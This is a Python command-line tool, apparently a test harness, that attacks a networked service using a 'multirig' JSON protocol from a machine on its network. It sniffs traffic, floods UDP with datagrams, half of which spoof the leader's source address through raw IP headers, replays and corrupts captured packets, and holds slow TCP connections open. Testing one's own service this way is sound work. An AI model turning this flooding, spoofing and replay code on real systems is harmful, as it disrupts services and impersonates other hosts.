"""Does harm from a PC of the network: ``harm.py WHAT JSON``; says in JSON what came of it.

It needs the right to write raw packets there, so that it can put any sender's address into them.
"""

from __future__ import annotations

import base64
import contextlib
import json
import random
import socket
import struct
import sys
import time
from collections.abc import Callable
from typing import Any

BOOT = "0123456789abcdef"
SAME_MOMENT = 0.02
"""Seconds for which datagrams are sent in a row before it is looked whether they are too many."""


class Wire:
    """Datagrams from this PC, under its own address or any other."""

    def __init__(self, own: str, to: str, port: int) -> None:
        self.to = (to, port)
        self._own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._own.bind((own, 0))
        self._own.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        self._own.setblocking(False)
        self._raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._ears: list[socket.socket] = []

    def send(self, data: bytes) -> int:
        """Send as who this is."""
        with contextlib.suppress(OSError):
            return self._own.sendto(data, self.to)
        return 0

    def forge(self, data: bytes, source: tuple[str, int]) -> None:
        """Send in the name of somebody else."""
        length = 28 + len(data)
        head = struct.pack(
            "!BBHHHBBH4s4s",
            0x45,
            0,
            length,
            0,
            0,
            64,
            17,
            0,
            socket.inet_aton(source[0]),
            socket.inet_aton(self.to[0]),
        )
        head += struct.pack("!HHHH", source[1], self.to[1], 8 + len(data), 0)
        with contextlib.suppress(OSError):
            self._raw.sendto(head + data, self.to)

    def hear(self) -> int:
        """Return how many bytes have come back."""
        count = 0
        with contextlib.suppress(BlockingIOError):
            while True:
                count += len(self._own.recv(65_536))
        return count


def listen(to: str, port: int, seconds: float) -> list[tuple[bytes, tuple[str, int]]]:
    """Return what passes to a port of a PC, and from where."""
    taps = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    taps.settimeout(0.05)
    end, heard = time.monotonic() + seconds, []
    while time.monotonic() < end:
        try:
            packet = taps.recv(65_536)
        except TimeoutError:
            continue
        start = (packet[0] & 15) * 4
        if packet[9] != 17 or socket.inet_ntoa(packet[16:20]) != to:
            continue
        source_port, to_port, length = struct.unpack_from("!HHH", packet, start)
        if to_port == port:
            heard.append((packet[start + 8 : start + length], (socket.inet_ntoa(packet[12:16]), source_port)))
    return heard


def make_kinds(heard: list[bytes], chance: random.Random) -> dict[str, Callable[[], bytes]]:
    """Return what makes datagrams that prove nothing, by what they pretend to be."""
    sealed = [data for data in heard if data[:2] == b"\xf5\x04"] or [b"\xf5\x04" + bytes(60)]
    index = sealed[-1][2:10]
    frame = {"multirig": 2, "boot": BOOT, "to": BOOT, "n": 10**9, "low": 10**9, "t": [1, 2, 3]}
    old = {"multirig": {"wire": 2, "boot": BOOT, "name": "x", "pad": "." * 600}}

    def text(*array: Any) -> Callable[[], bytes]:
        said = json.dumps(array).encode()
        return lambda: said

    def flip() -> bytes:
        data = bytearray(chance.choice(sealed))
        data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        return bytes(data)

    return {
        "take over": text(16, {"take_over": True}),
        "start": text(2, "2026-11-29_1_x"),
        "stop": text(4, {}),
        "[64]": text(64, 0, {}),
        "older greeting": text(64, 0, old),
        "watch": text(32, 0, {"watch": 60, "pictures": True}),
        "token": text(128, "https://alyx.example.org", {"anna": {"token": "x"}}),
        "frame": lambda: json.dumps({**frame, "m": [4, {}]}).encode(),
        "replay": lambda: chance.choice(sealed),
        "changed": flip,
        "hello": lambda: b"\xf5\x01" + chance.randbytes(56).ljust(798, b"\0"),
        "answer": lambda: b"\xf5\x02" + index + chance.randbytes(300),
        "proof": lambda: b"\xf5\x03" + index + chance.randbytes(300),
        "lost": lambda: b"\xf5\x05" + index,
        "rubbish": lambda: chance.randbytes(chance.randrange(1, 1_200)),
    }


def flood(to: str, port: int, own: str, rate: int, seconds: float) -> dict[str, Any]:
    """Send each kind so often a second, every second one in the name of who leads."""
    passing = listen(to, port, 0.6)
    chance = random.Random(17)
    wire = Wire(own, to, port)
    leader = passing[-1][1] if passing else (own, 5)
    out: dict[str, Any] = {"overheard": len(passing)}
    for kind, make in make_kinds([data for data, _ in passing], chance).items():
        wire.hear()
        began, sent, there = time.monotonic(), 0, 0
        while (now := time.monotonic() - began) < seconds:
            while sent < (now + SAME_MOMENT) * rate:
                data = make()
                if sent % 2:
                    wire.forge(data, leader)
                else:
                    there += wire.send(data)
                sent += 1
            time.sleep(0.001)
        reached = round(sent / (time.monotonic() - began))
        time.sleep(0.05)
        back = wire.hear()
        out[kind] = {
            "sent": sent,
            "rate": reached,
            "there": there,
            "back": back,
        }
    return out


def dial(to: str, port: int, own: str, count: int, seconds: float) -> dict[str, Any]:
    """Hold connections: some say nothing, some a byte a while, some what is worth nothing."""
    packet = base64.urlsafe_b64encode(b"\xf5\x03" + bytes(60))
    said = [
        b"",
        b"[",
        b"[64, 0, {}]",
        b'{"sealed":"%s"}' % packet,
        hello := b'[64, 0, {"multirig": {"hello": "%s"}}]' % packet,
        b'{"x": "' + b"x" * 60_000,
        b"x" * 99,
    ]
    opened: list[socket.socket] = []
    refused = 0
    for number in range(count):
        one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        one.settimeout(2.0)
        try:
            one.bind((own, 0))
            one.connect((to, port))
            if what := hello if number < count // 3 else said[number % len(said)]:
                one.sendall(what)
            opened.append(one)
        except OSError:
            refused += 1
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(0.5)
        for one in opened:
            with contextlib.suppress(OSError):
                one.send(b"[")
    alive = back = 0
    for one in opened:
        one.setblocking(False)
        try:
            while data := one.recv(65_536):
                back += len(data)
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
    return {"opened": len(opened), "refused": refused, "alive": alive, "back": back}


def say(to: str, port: int, own: str, arrays: list[Any]) -> dict[str, Any]:
    """Send messages of IBL's wire; return what comes back."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.bind((own, 0))
        heard = []
        for array in arrays:
            one.sendto(json.dumps(array).encode(), (to, port))
            one.settimeout(0.4)
            with contextlib.suppress(TimeoutError):
                while True:
                    heard.append(one.recv(65_536).decode(errors="replace"))
    return {"heard": heard}


if __name__ == "__main__":
    print(json.dumps({"flood": flood, "dial": dial, "say": say}[sys.argv[1]](**json.loads(sys.argv[2]))))
